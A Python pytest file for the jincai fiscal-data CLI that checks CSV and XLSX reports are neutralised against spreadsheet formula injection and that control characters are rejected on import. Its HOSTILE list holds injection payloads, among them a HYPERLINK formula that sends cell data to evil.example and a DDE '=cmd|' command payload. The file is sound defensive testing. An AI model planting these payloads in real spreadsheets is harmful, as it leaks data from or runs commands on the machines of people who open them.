"""Issue 7 #9: every CSV and XLSX jincai writes for people is safe to open — no cell is a formula,
every value reads back as itself, control characters cannot crash a writer — and ``codes import``
stores no control character."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner

from jincai import paths, safe_output
from jincai.cli import app
from jincai.standard import standard

runner = CliRunner()

#: what a spreadsheet takes as a formula (OWASP): the fuzz harness's own test, plus full-width forms
FORMULA = re.compile(r"^(?:[=@＝＠]|[+\-＋－](?![0-9.]+$)|\t|\r|\n)")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
    "'=1+1",
    "'",
    "-12.50",
    "-3",
    "=cmd|' /C calc'!A0",
    "a\x00b\x01c\x1fd",
    "line\nbreak\r\nand _x000D_ literally",
]


def _cells_of_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _text(path: Path) -> str:
    """A CSV file's text with its line ends as written (read_text would turn a quoted CR into LF)."""
    return path.read_bytes().decode("utf-8-sig")


def _no_formula(cells) -> None:
    for row in cells:
        for cell in row:
            assert not FORMULA.match(cell), f"formula-like cell {cell!r}"


# ------------------------------------------------------------------------------------------------
# the module: a reversible prefix for CSV, string cells for XLSX
# ------------------------------------------------------------------------------------------------


@given(st.text())
def test_issue7_09_csv_neutralisation_is_reversible_and_never_a_formula(text):
    cell = safe_output.neutralise(text)
    assert safe_output.restore(cell) == text
    assert not FORMULA.match(cell)
    if not safe_output.looks_like_formula(text) and not text.startswith("'"):
        assert cell == text  # ordinary text is written as it is


@pytest.mark.parametrize("number", ["-12.50", "-3", "0", "12.5", "-0.01"])
def test_issue7_09_negative_money_stays_a_number(number):
    assert safe_output.neutralise(number) == number


@given(
    st.lists(st.lists(st.one_of(st.text(), st.none(), st.integers(), st.decimals(allow_nan=False, allow_infinity=False, places=2)), max_size=5), max_size=5),
    st.sampled_from(["\n", "\r\n"]),
)
@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
def test_issue7_09_any_value_written_to_csv_reads_back_as_itself(rows, end):
    buf = io.StringIO(newline="")
    safe_output.csv_writer(buf, lineterminator=end).writerows(rows)
    text = buf.getvalue()
    _no_formula(_cells_of_csv(text))
    back = list(safe_output.read_rows(io.StringIO(text, newline="")))
    expected = [["" if v is None else (format(v, "f") if isinstance(v, Decimal) else str(v)) for v in row] for row in rows]
    assert back == expected


@given(st.lists(st.text(max_size=300), min_size=1, max_size=8))
@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture], deadline=None, max_examples=60)
def test_issue7_09_any_string_written_to_xlsx_reads_back_and_is_never_a_formula(tmp_path, values):
    target = tmp_path / "x.xlsx"
    safe_output.write_xlsx(target, [safe_output.Sheet("表 sheet", ["值 value"], [[v] for v in values])])
    ws = load_workbook(target).worksheets[0]
    cells = [ws.cell(row=i + 2, column=1) for i in range(len(values))]
    assert all(c.data_type != "f" for c in cells)
    # Excel decodes its _xHHHH_ escapes; openpyxl leaves them, unescape() does what Excel does
    got = [unescape(c.value) if c.value is not None else "" for c in cells]
    assert got == values


def test_issue7_09_xlsx_keeps_a_formula_like_text_a_string_with_a_quote_prefix(tmp_path):
    target = tmp_path / "x.xlsx"
    safe_output.write_xlsx(target, [safe_output.Sheet("s", ["v"], [[v] for v in HOSTILE] + [[12], [Decimal("-1.50")], [None]])])
    ws = load_workbook(target).worksheets[0]
    rows = list(ws.iter_rows(min_row=2))
    for cell, value in zip(rows, HOSTILE):
        c = cell[0]
        assert c.data_type == "s" and unescape(c.value) == value
        assert c.quotePrefix == safe_output.looks_like_formula(value)
    assert rows[len(HOSTILE)][0].value == 12 and rows[len(HOSTILE) + 1][0].value == "-1.50"


def test_issue7_09_xlsx_cuts_an_over_long_cell_visibly():
    text = "汉" * 40_000
    cut = safe_output.xlsx_text(text)
    assert len(cut.encode("utf-16-le")) // 2 <= safe_output.XLSX_MAX_CELL and cut.endswith("truncated）")


# ------------------------------------------------------------------------------------------------
# validate's CSV and XLSX reports
# ------------------------------------------------------------------------------------------------


def _agency_lines(values: list[str]) -> str:
    lines = []
    for i, v in enumerate(values):
        lines.append(json.dumps({
            "mof_div_code": "130600000", "fiscal_year": 2024, "agency_code": v, "agency_name": v,
            "agency_type_code": v, "budget_level_code": "3",
        }, ensure_ascii=False))
    return "\n".join(lines) + "\n"


def test_issue7_09_csv_report_neutralises_every_cell_and_round_trips(tmp_path):
    src = tmp_path / "=1+1.jsonl"  # the file name is a formula too
    src.write_text(_agency_lines(HOSTILE), encoding="utf-8")
    out = tmp_path / "report.csv"
    r = runner.invoke(app, ["validate", str(src), "--entity", "agency", "--format", "csv", "--out", str(out)])
    assert r.exit_code == 1, r.output
    text = _text(out)
    _no_formula(_cells_of_csv(text))
    back = list(safe_output.read_rows(io.StringIO(text, newline="")))
    header = back[0]
    values = {row[header.index("值 Value")] for row in back[1:] if row[header.index("字段 Field")] == "agency_code"}
    assert "=1+1" in values and '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' in values and "-12.50" in values
    assert all(row[header.index("文件 File")] == str(src) for row in back[1:])
    # the CSV on stdout is the same document
    r = runner.invoke(app, ["validate", str(src), "--entity", "agency", "--format", "csv"])
    _no_formula(_cells_of_csv(r.stdout))


def test_issue7_09_xlsx_report_has_no_formula_and_survives_control_characters(tmp_path):
    src = tmp_path / "=1+1.jsonl"
    src.write_text(_agency_lines(HOSTILE), encoding="utf-8")
    out = tmp_path / "report.xlsx"
    r = runner.invoke(app, ["validate", str(src), "--entity", "agency", "--format", "xlsx", "--out", str(out)])
    assert r.exit_code == 1, r.output  # was exit 3 on any control character
    wb = load_workbook(out)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f"
                if isinstance(c.value, str):
                    seen.add(unescape(c.value))
    assert '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' in seen and str(src) in seen
    assert "a\x00b\x01c\x1fd" in seen  # held exactly, in Excel's own escape


def test_issue7_09_text_report_escapes_control_characters_in_column_names(tmp_path):
    src = tmp_path / "agency.jsonl"
    src.write_text(json.dumps({"mof_div_code": "130600000", "\x1b[2Jboom": 1}) + "\n", encoding="utf-8")
    r = runner.invoke(app, ["validate", str(src)])
    assert r.exit_code == 1 and "\x1b" not in r.stdout and "\\x1b[2Jboom" in r.stdout


# ------------------------------------------------------------------------------------------------
# rejected.csv and ledger_rows.csv: the submitter corrects rejected.csv and sends it again
# ------------------------------------------------------------------------------------------------

PROFILE = {
    "id": "test_formula_csv",
    "name_zh": "测试：公式注入",
    "name_en": "test: formula injection",
    "source": {"format": "csv", "encoding": "utf-8"},
    "constants": {"mof_div_code": "130681000", "fiscal_year": "2024"},
    "targets": [{
        "entity": "payment_detail",
        "fields": {
            "pay_detail_id": {"from": "明细号", "transform": ["trim"]},
            "pay_cert_id": {"from": "凭证号", "transform": ["trim"]},
            "agency_code": {"from": "单位", "transform": ["trim"]},
            "payee_acct_name": "收款人",
            "payee_acct_no": "收款账号",
            "payee_acct_bank_name": "开户行",
            "pay_amt": {"from": "金额", "transform": ["trim", "money"]},
            "add_word": "附言",
        },
    }],
}
LEGACY_HEADER = ["明细号", "凭证号", "单位", "收款人", "收款账号", "开户行", "金额", "附言"]


def _translate(tmp_path: Path, rows: list[list[str]]):
    prof = tmp_path / "profile.yaml"
    prof.write_text(yaml.safe_dump(PROFILE, allow_unicode=True), encoding="utf-8")
    src = tmp_path / "=cmd.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(LEGACY_HEADER)
        w.writerows(rows)
    out = tmp_path / "out"
    r = runner.invoke(app, ["translate", "--profile", str(prof), str(src), "--out", str(out), "--quiet"])
    return r, out


def test_issue7_09_rejected_csv_round_trips_through_the_csv_reader(tmp_path):
    rows = []
    for i, value in enumerate(HOSTILE):
        # each row is rejected (an amount that is not money), its other cells carry the hostile value
        rows.append([f"MX{i:04d}", "=PZ1", "101001", value, "=1+1", "@bank", value, value])
    rows.append(["MX9999", "PZ2", "101001", "张三", "6222000011112222", "银行", "-12.50", "-12.50"])
    r, out = _translate(tmp_path, rows)
    assert r.exit_code == 1, r.output
    assert "rejected.csv" in r.output and "妥善保管" in r.output and "keep it as safe" in r.output  # it is sensitive
    text = _text(out / "rejected.csv")
    _no_formula(_cells_of_csv(text))
    back = list(safe_output.read_rows(io.StringIO(text, newline="")))
    header = back[0]
    by_id = {row[header.index("明细号")]: row for row in back[1:]}
    for i, value in enumerate(HOSTILE):
        row = by_id[f"MX{i:04d}"]
        # what the county sees and corrects is exactly what it sent
        assert [row[header.index(c)] for c in LEGACY_HEADER] == rows[i]
    # the ledger's row trail is for people too
    _no_formula(_cells_of_csv(_text(out / "ledger_rows.csv")))
    trail = list(safe_output.read_rows(io.StringIO(_text(out / "ledger_rows.csv"), newline="")))
    assert {row[0] for row in trail[1:]} == {str(tmp_path / "=cmd.csv")}


def test_issue7_09_negative_money_in_rejected_csv_stays_a_number(tmp_path):
    rows = [["MX1", "PZ1", "101001", "张三", "6222000011112222", "银行", "-12.505", "-12.50"]]  # three decimals: rejected
    r, out = _translate(tmp_path, rows)
    assert r.exit_code == 1
    back = _cells_of_csv(_text(out / "rejected.csv"))
    header = back[0]
    assert back[1][header.index("金额")] == "-12.505" and back[1][header.index("附言")] == "-12.50"


# ------------------------------------------------------------------------------------------------
# codes import: no control character is ever stored; formula-looking names are data
# ------------------------------------------------------------------------------------------------


@pytest.fixture()
def codelists(tmp_path):
    target = tmp_path / "codelists"
    shutil.copytree(paths.CODELISTS, target)
    return target


def _official(tmp_path: Path, codelists: Path, name: str) -> Path:
    """The department economic classification of 2025 as an official file, one name replaced."""
    from jincai.codelists import load_registry

    rows = [(r.code, name if r.code == "30201" else r.name_zh) for r in load_registry(codelists).get("dep_bgt_eco").rows_valid(2025)]
    src = tmp_path / "official.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["科目编码", "科目名称"])
        w.writerows(rows)
    return src


_CONTROLS = st.sampled_from(
    [chr(c) for c in range(0x00, 0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)] + ["\u2028", "\u2029", "\u202e", "\u2066"]
)


@given(st.text(min_size=1, max_size=5).filter(lambda s: s.strip() == s and s.strip()), _CONTROLS, st.integers(0, 5))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_issue7_09_codes_import_refuses_control_characters(tmp_path_factory, text, control, at):
    tmp_path = tmp_path_factory.mktemp("ci")
    codelists = tmp_path / "codelists"
    shutil.copytree(paths.CODELISTS, codelists)
    before = (codelists / "dep_bgt_eco.csv").read_bytes()
    name = "办公" + text[:at] + control + text[at:] + "费"
    src = _official(tmp_path, codelists, name)
    r = runner.invoke(app, ["codes", "import", "dep_bgt_eco", str(src), "--year", "2025", "--codelists", str(codelists)])
    assert r.exit_code == 2, r.output
    assert "codelist-import-control-character" in r.output and "official.csv:" in r.output and "Traceback" not in r.output
    assert (codelists / "dep_bgt_eco.csv").read_bytes() == before  # nothing written


def test_issue7_09_codes_import_keeps_a_formula_looking_name_as_data(tmp_path, codelists):
    src = _official(tmp_path, codelists, '=HYPERLINK("http://evil.example")')
    r = runner.invoke(app, ["codes", "import", "dep_bgt_eco", str(src), "--year", "2025", "--codelists", str(codelists)])
    assert r.exit_code == 0, r.output
    stored = (codelists / "dep_bgt_eco.csv").read_text(encoding="utf-8")
    assert '=HYPERLINK(""http://evil.example"")' in stored  # data, stored as it is (written for programs)


def test_issue7_09_codes_import_field_size_limit_is_a_coded_error(tmp_path, codelists):
    src = _official(tmp_path, codelists, "x" * 3000)
    r = runner.invoke(app, ["codes", "import", "dep_bgt_eco", str(src), "--year", "2025", "--codelists", str(codelists)],
                      env={"JINCAI_LIMIT_FIELD_BYTES": "1000"})
    assert r.exit_code == 2 and "limit-field-bytes" in r.output and "official.csv:" in r.output, r.output
    # over the csv module's own default (131,072): no longer a crash either
    src = _official(tmp_path, codelists, "x" * 200_000)
    r = runner.invoke(app, ["codes", "import", "dep_bgt_eco", str(src), "--year", "2025", "--dry-run", "--codelists", str(codelists)])
    assert r.exit_code in (0, 2) and isinstance(r.exception, (SystemExit, type(None))), r.output


def test_issue7_09_a_stored_list_with_a_control_character_does_not_load(tmp_path, codelists):
    p = codelists / "dep_bgt_eco.csv"
    text = p.read_text(encoding="utf-8").replace("办公费", "办公\u2028费", 1)
    p.write_text(text, encoding="utf-8")
    r = runner.invoke(app, ["codes", "lookup", "dep_bgt_eco", "30201", "--year", "2024", "--codelists", str(codelists)])
    assert r.exit_code == 2 and "U+2028" in r.output, r.output


def test_issue7_adapter_init_field_size_limit_is_a_coded_error(tmp_path):
    """csv's field size limit in ``adapter init`` (was exit 3 above 131,072 characters)."""
    src = tmp_path / "x.csv"
    src.write_text("单位,金额,说明\n101001,12.50," + "长" * 3000 + "\n101002,13.50,b\n", encoding="utf-8")
    r = runner.invoke(app, ["adapter", "init", str(src)], env={"JINCAI_LIMIT_FIELD_BYTES": "1000"})
    assert r.exit_code == 2 and "limit-field-bytes" in r.output, r.output
    src.write_text("单位,金额,说明\n101001,12.50," + "x" * 200_000 + "\n101002,13.50,b\n", encoding="utf-8")
    r = runner.invoke(app, ["adapter", "init", str(src)])
    assert r.exit_code == 0 and isinstance(r.exception, (SystemExit, type(None))), r.output
